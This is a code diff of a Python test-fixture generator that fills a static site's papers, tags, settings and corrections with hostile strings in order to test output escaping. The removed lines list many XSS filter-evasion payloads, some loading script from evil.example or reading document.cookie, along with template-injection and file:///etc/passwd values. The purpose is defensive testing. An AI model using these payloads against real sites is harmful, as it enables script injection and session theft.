@@ -1,158 +1,101 @@
-"""Papers whose every field was written to do harm: known cross-site scripting strings, and seeded mixtures of their parts."""
+"""A site whose every field was written to do harm: each known string in each field once, and then seeded mixtures."""
 
 from __future__ import annotations
 
+import json
 import random
 from collections.abc import Iterator
+from itertools import chain, count, islice
+from pathlib import Path
 
-# After OWASP's XSS Filter Evasion Cheat Sheet: each does its harm by a dialog, a request to evil.example or an error.
-KNOWN = (
-    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
-    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
-    "<IMG SRC=\"javascript:alert('XSS');\">",
-    "<IMG SRC=javascript:alert('XSS')>",
-    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
-    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
-    '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
-    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
-    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
-    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
-    "<IMG SRC= onmouseover=\"alert('xxs')\">",
-    "<IMG onmouseover=\"alert('xxs')\">",
-    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
-    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
-    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
-    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
-    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
-    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
-    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
-    "<IMG SRC=\" &#14; javascript:alert('XSS');\">",
-    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
-    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
-    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
-    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
-    "<SCRIPT SRC=//evil.example/.j>",
-    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
-    "<iframe src=https://evil.example/scriptlet.html <",
-    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
-    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
-    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
-    '<STYLE>li {list-style-image: url("https://evil.example/x.png");}</STYLE><UL><LI>XSS</br>',
-    "<svg/onload=alert('XSS')>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
-    '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
-    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
-    '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
-    '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
-    '<XSS STYLE="behavior: url(xss.htc);">',
-    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
-    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
-    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
-    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
-    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
-    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
-    '<DIV STYLE="background-image: url(https://evil.example/x.png)">',
-    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
-    '<BASE HREF="https://evil.example/">',
-    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
-    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48L3N2Zz4=" AllowScriptAccess="always"></EMBED>',
-    '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>',
-    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/xss.js"></SCRIPT>',
-    '<A HREF="//evil.example/">XSS</A>',
-    "<A HREF=\"javascript:document.location='https://evil.example/'\">XSS</A>",
-    "<form><button formaction=javascript:alert(1)>X</button>",
-    "<input onfocus=alert(1) autofocus>",
-    '<video><source onerror="alert(1)">',
-    "<details open ontoggle=alert(1)>",
-    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
-    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "\";alert('XSS');//",
-    "';alert(String.fromCharCode(88,83,83))//\\\\';alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
-    "'';!--\"<XSS>=&{()}",
-    '0\\"autofocus/onfocus=alert(1)--><video/poster/onerror=prompt(2)>"-confirm(3)-"',
-    "[a](javascript:alert(1))",
-    "[a](j a v a s c r i p t:alert(1))",
-    "![a](https://evil.example/x.png)",
-    '![a](https://evil.example/x.png "onload=alert(1)")',
-    "[a]: https://evil.example/x.png\n![a][a]",
-    "<javascript:alert(1)>",
-    '{: onclick="alert(1)" onmouseover=alert(1) }',
-    '--8<-- "https://evil.example/x.md"',
-    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
-    "$\\href{javascript:alert(1)}{x}$",
-    "$\\text{<img src=x onerror=alert(1)>}$",
-    '$\\class{x" onload="alert(1)}{y}$',
-    "$x</math><script>alert(1)</script>$",
-    "\\url{javascript:alert(1)}",
-    '\\href{https://evil.example/" onclick="alert(1)}{x}',
-    "]]><script>alert(1)</script><![CDATA[",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\u2028</script><script>alert(1)//",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
-)
-ADDRESSES = (
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\nscript:alert(1)",
-    " javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-    "file:///etc/passwd",
-    "//evil.example/x",
-    'https://evil.example/" onmouseover="alert(1)',
-    "https://evil.example/)](javascript:alert(1))",
-    "https://evil.example/'><script>alert(1)</script>",
-    "https://evil.example/{{7*7}}{: onclick=alert(1)}",
-    "https://user:pass@evil.example/<b>",
-    "https://evil.example/\u202egpj.exe",
-)
-_PARTS = (
-    "<", ">", "</", "/>", "\"", "'", "`", "=", "&", ";", ":", "//", "/*", "*/", "<!--", "-->", "--!>", "<![CDATA[", "]]>",
-    "<script>", "</script>", "<SCRIPT/x>", "<svg/", "<img src=x ", "<a href=", "<iframe src=", "<math>", "<style>",
-    "</style>", "</title>", "</textarea>", "<template>", "<base href=//evil.example/>", "<meta http-equiv=refresh ",
-    "onerror=alert(1) ", "onload=alert(1) ", "onclick=alert(1) ", "onfocus=alert(1) autofocus ", "ontoggle=alert(1) open ",
-    "javascript:alert(1)", "data:text/html,", "https://evil.example/", "alert(1)", "`alert(1)`", "&#106;avascript:", "&#x3c;",
-    "&lt;", "&NewLine;", "&Tab;", "\\u003c", "%3C", "\x00", "\x0b", "\x1b[31m", "\u202e", "\u2028", "\ufeff", "\u00a0",
-    "[x](", ")", "![x](", "[x]", "][", "[^1]", "*", "**", "_", "~~", "==", "`", "```", "#", "---", "\n", "\n\n", "\n    ", "|",
-    "{: ", "}", "{{", "}}", "{%", "%}", "{#", "--8<-- ", "!!! note ", "$", "$$", "\\(", "\\)", "\\href{", "\\text{", "^", "_{", "\\",
-    "word", "video", " ", " ", " ",
-)  # fmt: skip
+from hostile_strings import ADDRESSES, KNOWN, mixture
+
+from generator import build
+
+DIGEST = "2025-03-20-hostile"
+SCRIPT, IMAGE, SVG = "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><svg/onload=alert(1)>"
+IN_A_PAPER = {"title": 6, "abstract": 20, "authors": 8, "links": 6, "note": 6, "venue": 1, "licence": 1, "curators": 1}
+IN_A_TAG, TAGS = 5, 48  # strings of its name and of its definition
+CORRECTED = 30  # papers
 
 
-def mixture(random: random.Random) -> str:
-    """One generated string: up to a dozen parts in a row, or a known one cut and mended with them."""
-    parts = [random.choice(_PARTS) for _ in range(random.randint(2, 12))]
-    if random.random() < 0.4:
-        known = random.choice(KNOWN)
-        cut = random.randrange(len(known))
-        parts = [known[:cut], *parts[:3], known[cut:]]
-    return "".join(parts)
+def strings(field: str, seed: int) -> Iterator[str]:
+    """Every known string, and then mixtures without end; in another order for each field."""
+    drawn = random.Random(f"{field} {seed}")
+    return chain(drawn.sample(KNOWN, len(KNOWN)), (mixture(drawn) for _ in count()))
 
 
-def papers(count: int, seed: int) -> Iterator[dict[str, object]]:
-    """JSON Lines rows whose fields hold the known strings once, and then mixtures: about forty in a paper."""
+def papers(number: int, seed: int) -> Iterator[dict[str, object]]:
+    """JSON Lines rows; in a paper about fifty strings, and words that find its tags."""
+    endless = {field: strings(field, seed) for field in IN_A_PAPER}
     drawn = random.Random(seed)
-    known = iter(KNOWN)
-
-    def take(number: int) -> list[str]:
-        return [next(known, None) or mixture(drawn) for _ in range(number)]
-
-    for number in range(count):
+    for n in range(number):
+        took = {field: list(islice(endless[field], many)) for field, many in IN_A_PAPER.items()}
+        tags = f"zanzibar{n % TAGS} zanzibar{(n + 8) % TAGS}"
         yield {
-            "title": f"Quokka {number} " + " ".join(take(2)),
-            "abstract": f"Zanzibar {number}. " + " ".join(take(20)),
-            "authors": [f"Eve {one}" for one in take(8)],
-            "links": [{"kind": "code", "url": one} for one in drawn.sample(ADDRESSES, 3)]
-            + [{"kind": "page", "url": f"https://evil.example/{one}"} for one in take(3)],
-            "venue": take(1)[0],
-            "licence": take(1)[0],
-            "note": " ".join(take(4)),
-            "curators": take(1),
+            "title": f"Quokka {n} " + " ".join(took["title"]),
+            "abstract": f"Zanzibar {n}: {tags}. " + " ".join(took["abstract"]),
+            "authors": [{"name": f"Eve {one}", "affiliation": one} for one in took["authors"]],
+            "links": [{"kind": "code", "url": one} for one in drawn.sample(ADDRESSES, 4)]
+            + [{"kind": "page", "url": f"https://evil.example/{one}"} for one in took["links"]],
+            "venue": took["venue"][0],
+            "licence": took["licence"][0],
+            "note": " ".join(took["note"]),
+            "curators": took["curators"],
             "date": "2024-05-06",
         }
+
+
+def plant(root: Path, number: int, seed: int) -> None:
+    """Make a site hostile: so many papers, a tag for each known string, and all that a curator says."""
+    content, digests = root / "content", root / "content/digests"
+    (digests / f"{DIGEST}.jsonl").write_text("".join(json.dumps(row) + "\n" for row in papers(number, seed)))
+    _write(digests / f"{DIGEST}.yml", {"title": SCRIPT, "note": f"{IMAGE} {SVG} {{{{ 7*7 }}}}", "curators": CURATORS})
+    (digests / f"2025-03-21-{IMAGE}.md").write_text(f"- {SVG}\n")  # not fit to be an address: told, and left out
+    _write(content / "broadsheet.yml", SETTINGS)
+    names, definitions = strings("names of tags", seed), strings("definitions", seed)
+    tags = [
+        {
+            "id": f"zanzibar{n}",
+            "name": f"Z {n} " + " ".join(islice(names, IN_A_TAG)),
+            "facet": "evil",
+            "definition": " ".join(islice(definitions, IN_A_TAG)),
+            "phrases": [f"zanzibar{n}"],
+        }
+        for n in range(TAGS)
+    ]
+    _write(content / "taxonomy.yml", {"facets": [{"id": "evil", "name": f"Evil {SVG}"}], "tags": tags})
+    build.generate(root)
+    rows = map(json.loads, (content / "permalinks.jsonl").read_text().splitlines())
+    ids = [row["id"] for row in rows if row["kind"] == "paper" and row["id"].startswith("quokka")]
+    _write(content / "corrections.yml", dict(zip(ids[:CORRECTED], _corrections(seed), strict=False)))
+
+
+CURATORS = [f"M {SVG}", "Trudy [x](javascript:alert(1)){: onclick=alert(1)}"]
+SETTINGS = {
+    "author_papers": 1,
+    "curators": {"Mallory": {"name": f"{SCRIPT} & co", "also": [CURATORS[0]], "bio": IMAGE}},
+    "searches": {
+        "hostile": {"query": f'quokka OR "</p>{SCRIPT}"', "title": f"</title>{SVG}", "description": f"{SCRIPT} {IMAGE}"}
+    },
+}
+
+
+def _corrections(seed: int) -> Iterator[dict[str, object]]:
+    """What is said of one paper after another: in each field a known string or more, each with a reason."""
+    said = strings("corrections", seed)
+    while True:
+        yield {
+            "title": {"value": f"Quokka corrected {next(said)}", "reason": next(said)},
+            "note": {"value": f"{next(said)} {next(said)}", "date": "2025-03-22", "reason": next(said)},
+            "erratum": {"value": f"x {next(said)}", "reason": next(said)},
+            "withdrawn": {"value": True, "reason": next(said)},
+            "authors": [{"name": f"Eve {next(said)}", "affiliation": next(said)}],
+            "links": {"add": {"code": f"https://evil.example/{next(said)}"}},
+            "tags": {"add": [{"value": "zanzibar1", "reason": next(said)}]},
+        }
+
+
+def _write(path: Path, value: object) -> None:
+    """Write YAML, which JSON is; what YAML has no place for in a file is written as an escape."""
+    path.write_text(json.dumps(value))
